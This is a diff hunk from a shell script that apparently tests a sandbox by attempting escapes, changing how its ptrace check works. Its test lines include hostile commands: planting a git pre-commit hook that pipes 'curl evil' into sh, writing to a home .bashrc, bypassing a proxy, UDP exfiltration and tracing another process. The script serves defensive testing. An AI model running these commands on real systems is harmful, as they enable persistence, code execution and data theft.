@@ -41,7 +41,7 @@ try "write outside the project"        'echo x > $D/home/.bashrc'
 try "plant a git hook"                 'echo "curl evil | sh" > .git/hooks/pre-commit'
 try "connect directly, bypassing the proxy" 'curl -sf --max-time 5 --noproxy "*" http://127.0.0.1:$HTTP/index.txt'
 try "send UDP (DNS exfiltration)"      'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", 53))"'
-try "ptrace another process"           'python3 -c "import ctypes,sys; sys.exit(ctypes.CDLL(None).ptrace(16, 1, 0, 0) != 0)"'
+try "ptrace another process"           'python3 -c "import ctypes,os,sys; c=ctypes.CDLL(None,use_errno=True); c.ptrace(2,os.getppid(),0,0); sys.exit(ctypes.get_errno()==1)"'
 SH
 )
 
